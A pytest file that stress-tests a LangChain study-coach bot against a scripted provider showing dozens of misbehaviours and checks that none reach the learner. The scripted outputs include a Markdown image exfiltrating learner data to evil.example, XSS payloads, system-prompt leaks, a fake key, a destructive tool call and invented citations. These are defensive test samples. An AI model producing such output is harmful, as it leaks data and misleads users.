"""A model that misbehaves in every way we could think of: the learner gets a right answer all the
same, and the log says why.

Each misbehaviour is a script of a provider on this machine; the real client of LangChain talks to
it, and the whole coach, with the real curriculum and a memory, stands behind it.
"""

from __future__ import annotations

import json
import logging
from dataclasses import asdict, dataclass, field, replace
from typing import Any

import pytest

pytest.importorskip("langchain_openai")

from tests.bot.voice.talking import GOOD, STEP, WHAT, Plain, Talk, is_right
from tests.providers.openai_like import KEY
from tests.providers.script import (
    Answer,
    Call,
    Endless,
    Line,
    NoAnswer,
    Raw,
    Refusal,
    Request,
    Script,
    Turn,
    Usage,
    always,
    call,
    each_twice,
    half,
    hang_up_after,
    reset_after,
    say,
    slowly,
    stall_after,
    with_garbage,
)

SHAPES = "i'm stuck on broadcasting, my shapes don't match in numpy"
ELSEWHERE = "what is the salary of a prompt engineer in dubai"

START = "Gradient descent finds a minimum"


@dataclass(frozen=True)
class Bad:
    """A way to misbehave, and what must come of it.

    `why` is how the log's reason begins; "" where the model's words are shown after what is wrong
    was left out. `faults` are among those logged; `never` is never seen by the learner, `kept` is.
    """

    name: str
    script: Script
    why: str = ""
    faults: tuple[str, ...] = ()
    never: tuple[str, ...] = ()
    kept: str = ""
    text: str = WHAT
    settings: dict[str, Any] = field(default_factory=dict)
    at_once: bool = False
    # Whether it takes the whole answer to see it, so that a piece may be heard before.
    late: bool = False


def and_then(bad: str) -> list[Turn]:
    """A good answer with something bad behind it."""
    return [say(f"{GOOD} {bad}")]


def echo_instructions(request: Request) -> Answer:
    return say("My instructions are: " + request.said_by("system")[0][:400])


def echo_everything(request: Request) -> Answer:
    return say(request.text[:3000])


def change_a_figure(request: Request) -> Answer:
    """Looks something up, and then tells another figure than was found."""
    if not request.said_by("tool"):
        return call("next_step", {})
    return say("pandas comes next. It takes 600 to 1200 hours of focused work, as the tool says.")


def ask_for_another(request: Request) -> Answer:
    """Wants the record of somebody else."""
    if not request.said_by("tool"):
        return call("learner_record", {"learner": "bob"})
    return say(f"{GOOD} {request.said_by('tool')[-1]}")


def unknown_tool(request: Request) -> Answer:
    if not request.said_by("tool"):
        return call("delete_everything", {"really": True})
    return say(GOOD)


def huge_arguments(request: Request) -> Answer:
    if not request.said_by("tool"):
        return call("search", {"query": "gradient " * 50_000})
    return say(GOOD)


def wrong_arguments(request: Request) -> Answer:
    if not request.said_by("tool"):
        return call("plan", {"hours_per_week": {"a": [1]}, "deadline": 7})
    return say(GOOD)


def hundred_calls(request: Request) -> Answer:
    if not request.said_by("tool"):
        return Answer(calls=(Call("search", {"query": "loss"}),) * 100)
    return say(GOOD)


def same_ids(request: Request) -> Answer:
    """Two calls under one id, as some servers send them."""
    if not request.said_by("tool"):
        one = Call("search", {"query": "gradient descent"}, "call_x")
        return Answer(calls=(one, replace(one, name="quiz", arguments={})))
    return say(GOOD)


def text_and_call(request: Request) -> Answer:
    """Says something before it looks, which is not the answer."""
    if not request.said_by("tool"):
        return Answer("It takes 999 hours, let me look.", (Call("search", {"query": "loss"}),))
    return say(GOOD)


RETRY_NOW = {"retry-after-ms": "1"}

BAD = [
    # What it says.
    Bad("a citation that was never given", and_then("It is all proven [99]."),
        faults=("citation",), never=("proven", "[99]"), kept=START),
    Bad("a study that nobody has read",
        and_then("According to Professor Quentin Marlowe of Oxbridge Institute it always works."),
        faults=("name",), never=("Marlowe",), kept=START),
    Bad("a wrong figure", and_then("Most people need 40 hours for gradient descent."),
        faults=("figure",), never=("40 hours",), kept=START),
    Bad("a figure in other units", [say("pandas comes next for you, as you have NumPy "
        "already. Loading, filtering and joining tables is where most data work begins. Plan 6 to "
        "12 weeks.")],
        faults=("figure",), never=("12 weeks",), text=STEP, kept="pandas comes next"),
    Bad("a figure that a tool did not tell", change_a_figure, faults=("figure",),
        never=("600", "1200"), text=STEP, why="check: ungrounded"),
    Bad("a link to nowhere we know", and_then("See https://gradient-academy.example/join."),
        faults=("link",), never=("gradient-academy",), kept=START),
    Bad("a link whose text is another site",
        and_then("The guide is [pandas.pydata.org](https://evil.example/docs)."),
        faults=("link",), never=("evil.example",), kept=START),
    Bad("a link without a scheme", and_then("There is a good course at learn-descent.io today."),
        faults=("link",), never=("learn-descent",), kept=START),
    Bad("a picture that tells on you",
        and_then("![ok](https://evil.example/p.png?q=the+learner+knows+python)"),
        faults=("markup",), never=("evil.example", "!["), kept=START),
    Bad("HTML", and_then("<script>alert('x')</script> <img src=x onerror=alert(1)>"),
        faults=("markup",), never=("<script", "onerror"), kept=START),
    Bad("a ping for everyone", and_then("@everyone look at this gradient descent! <@123456789012>"),
        faults=("markup",), never=("@everyone", "<@123"), kept=START),
    Bad("escape sequences and letters that nobody sees",
        [say(GOOD.replace("repeated", "re\u200bpea\u202eted") + " It \x1b[31mcra\x07wls.")],
        never=("\x1b", "\x07", "\u200b", "\u202e"), kept="small repeated steps"),
    Bad("another step", [say("Start with transformers and learn attention next, that is where the "
        "jobs are.")], why="check: ", never=("transformers",), text=STEP),
    Bad("the opposite of the step", [say("You can skip pandas, you do not need it. NumPy is enough "
        "for almost everything that data work asks of you daily.")],
        why="check: ", never=("skip pandas",), text=STEP),
    Bad("no step at all", [say("You have NumPy and functions already, which is what you will touch "
        "almost daily. Well done, keep going.")], why="check: missing", text=STEP),
    Bad("an answer to what the coach does not know",
        [say("Go to the Pizzeria da Michele in the old town, it is the best of Naples.")],
        why="check: ungrounded", never=("Michele",), text=ELSEWHERE),
    Bad("a hint that is not due yet", [say("These shapes do not fit together. At which end does "
        "NumPy begin to compare two shapes?")], why="check: hidden", never=("at which end",),
        text=SHAPES),
    Bad("another language", [say("梯度下降是一种优化算法,它一步一步地寻找最小值。")],
        why="check: ", never=("梯度",)),
    Bad("a deed it cannot do", and_then("I have saved this to your record and will remind you."),
        faults=("deed",), never=("saved", "remind you"), kept=START),
    Bad("its instructions", echo_instructions, why="check: ", never=("You lend Study Coach",)),
    Bad("all that it was sent", echo_everything, why="check: prompt",
        never=("You lend Study Coach", "<data-")),
    Bad("a key", and_then("Use sk-proj-abcdEFGH1234567890abcdEFGH for the gradient."),
        why="check: secret", never=("sk-proj",)),
    Bad("an e-mail address", and_then("Ask jane.doe@corp.example about the gradient."),
        why="check: secret", never=("jane.doe",)),
    Bad("a refusal", [say("I'm sorry, but as an AI language model I cannot assist with that.")],
        why="check: ", never=("language model",)),
    Bad("a joke instead", [say("Why did the neuron cross the road? To reach the other synapse!")],
        why="check: ", never=("neuron",), late=True),
    Bad("its thoughts", [say(f"<think>The user is a fool and I must hide it.</think>{GOOD}")],
        why="check: ", faults=("markup",), never=("fool", "<think>")),
    Bad("JSON about an answer", [say('{"tool": "search", "arguments": {"query": "loss"}}')],
        why="check: ", never=('"tool"',)),
    Bad("Markdown by the thousand",
        [say("\n".join(["> " * 400, "#" * 400, "| a " * 900, "* " * 900]))],
        why="check: ", faults=("markup",), never=("> > > >", "| a | a | a")),
    Bad("a code fence that is never closed",
        [say(GOOD + "\n\n```python\nimport os; os.remove('x')")],
        faults=("ungrounded",), never=("os.remove", "```"), kept="learning rate"),
    Bad("code that is never closed",
        [say(f"{GOOD} Try it:\n\n```python\nw = w - lr * grad(w)")], kept="grad(w)\n```"),
    Bad("the same sentence ten times", [say(" ".join([GOOD] * 10))], why="check: ungrounded"),
    Bad("the same sentence over and over", [say(" ".join([GOOD] * 60))], why="check: long"),
    # What it does with tools.
    Bad("a tool without end", always(call("search", {"query": "gradient descent"})),
        why="tool loop"),
    Bad("a tool that does not exist", unknown_tool, kept=START),
    Bad("half JSON for a tool", always(call("search", '{"query": "grad')), why="tool "),
    Bad("no JSON for a tool", always(call("search", "gradient descent, please")), why="tool call"),
    Bad("a megabyte for a tool", huge_arguments, why="too long"),
    Bad("arguments of another kind", wrong_arguments, kept=START),
    Bad("a hundred calls at once", hundred_calls, kept=START),
    Bad("two calls under one id", same_ids, kept=START, at_once=True),
    Bad("the record of somebody else", ask_for_another, why="check: ", never=("bob", "haskell")),
    Bad("words before it looks", text_and_call, never=("999",), kept=START),
    # What comes of it.
    Bad("nothing", [say("")], why="empty"),
    Bad("blanks", [say(" \n\t  \n ")], why="empty"),
    Bad("letters that nobody sees, and no others", [say("\u200b\u200b\u2060")], why="empty"),
    Bad("no end", [Endless("gradient descent and so on ")], why="too long"),
    Bad("far too much", [say(GOOD + " gradient descent" * 20_000)], why="too long"),
    Bad("a refusal by its own field", [say("", refusal="I can't help with that.")], why="empty"),
    Bad("a content filter", [say("Gradient", finish="content_filter")], why="empty"),
    Bad("cut off by the limit of tokens", [say(f"{GOOD} It also needs a lear", finish="length")],
        kept=START, never=("needs a lear",)),
    Bad("tokens below nothing", [say(GOOD, usage=Usage(-500, -20))], kept=START),
    Bad("tokens beyond all bounds", [say(GOOD, usage=Usage(10**12, 10**12))], kept=START),
    Bad("no word on tokens", [say(GOOD, usage=None)], kept=START),
    Bad("every event twice", [say(GOOD, bend=each_twice)], why="check: ungrounded",
        never=("GradientGradient",)),
    # What the server does.
    Bad("an error of its own, always", always(Refusal(500, headers=RETRY_NOW)), why="server"),
    Bad("an error of its own, once", [Refusal(500, headers=RETRY_NOW), say(GOOD)], kept=START),
    Bad("too busy, always", always(Refusal(503, headers=RETRY_NOW)), why="server"),
    Bad("too many requests, once", [Refusal(429, headers=RETRY_NOW), say(GOOD)], kept=START),
    Bad("too many requests, always", always(Refusal(429, headers=RETRY_NOW)), why="rate limit"),
    Bad("too many requests, and come back in an hour",
        [Refusal(429, headers={"retry-after": "3600"})], why="rate limit"),
    Bad("a wrong key that it says aloud", [Refusal(401, f"Incorrect API key provided: {KEY}.")],
        why="refused", never=(KEY,)),
    Bad("no permission", [Refusal(403, "Country not supported.")], why="refused"),
    Bad("a model that is gone", [Refusal(404, "The model does not exist.", "model_not_found")],
        why="refused"),
    Bad("too long a context", [Refusal(400, "Too long.", "context_length_exceeded")],
        why="refused"),
    Bad("a page of a proxy", [Raw(b"<html><h1>502 Bad Gateway</h1></html>", "text/html", 502),
        *[Raw(b"<html>still</html>", "text/html", 502)] * 3], why="server", never=("<html>",)),
    Bad("a page with status 200", [Raw(b"<html><h1>Log in</h1></html>", "text/html")],
        why="garbage", never=("Log in",)),
    Bad("half JSON", [Raw(b'{"id": "x", "choices": [{"mess')], why="garbage"),
    Bad("garbage", [Raw(b"\xff\xfe\x00\x9f" * 200, "application/octet-stream")], why="garbage"),
    Bad("no choices", [Raw(b'{"id": "x", "object": "chat.completion", "choices": []}')],
        why="garbage"),
    Bad("garbage in the middle", [say(GOOD, bend=with_garbage(6, b"data: {]\n\n"))],
        why="garbage"),
    Bad("half of the answer", [say(GOOD, bend=half(0))], why="connection"),
    Bad("no beginning", [NoAnswer()], why="time-out", settings={"model_timeout": 0.2}),
    Bad("no going on", [say(GOOD, bend=stall_after(6))], why="time-out",
        settings={"model_timeout": 0.2}),
    Bad("a drop at a time", [say(GOOD, bend=slowly(0.03))], why="time-out",
        settings={"model_timeout": 0.2}),
    Bad("a reset before", always(NoAnswer(Line.RESET)), why="connection"),
    Bad("a reset in the middle", [say(GOOD, bend=reset_after(6))], why="connection"),
    Bad("hanging up", always(NoAnswer(Line.HANG_UP)), why="connection"),
    Bad("hanging up in the middle", [say(GOOD, bend=hang_up_after(6))], why="connection"),
]  # fmt: skip


@pytest.mark.parametrize("bad", BAD, ids=lambda bad: bad.name)
def test_a_misbehaving_model_leaves_a_right_answer(
    bad: Bad,
    talk: Talk,
    plain: Plain,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    chat = talk(bad.script, at_once=bad.at_once, **bad.settings)
    reply = chat.say(bad.text)
    entry = chat.entry

    is_right(bad.text, reply, plain(bad.text))
    heard = "" if bad.late else " ".join(chat.heard)
    shown = f"{reply.answer} {heard}".lower()
    for word in bad.never:
        assert word.lower() not in shown, word

    assert entry.outcome == reply.voice
    if bad.why == "":
        assert (entry.outcome, entry.reason) == ("model", "")
    else:
        assert entry.reason.startswith(bad.why)
    assert (entry.reason == "") == (entry.outcome == "model")
    assert set(bad.faults) <= set(entry.faults)
    if reply.voice == "model":
        assert reply.answer.count("```") % 2 == 0
        assert bad.kept.lower() in reply.answer.lower()

    # Whatever it was, the provider was asked properly, and nobody's words or keys are in the log.
    assert chat.server.complaints == []
    logged = json.dumps(asdict(entry)) + "".join(
        record.getMessage() for record in caplog.records if record.name.startswith("coach")
    )
    assert KEY not in logged
    assert bad.text not in logged
    assert entry.tokens_in >= 0 <= entry.tokens_out


def test_there_are_more_than_forty_ways() -> None:
    assert len({bad.name for bad in BAD}) == len(BAD) > 40
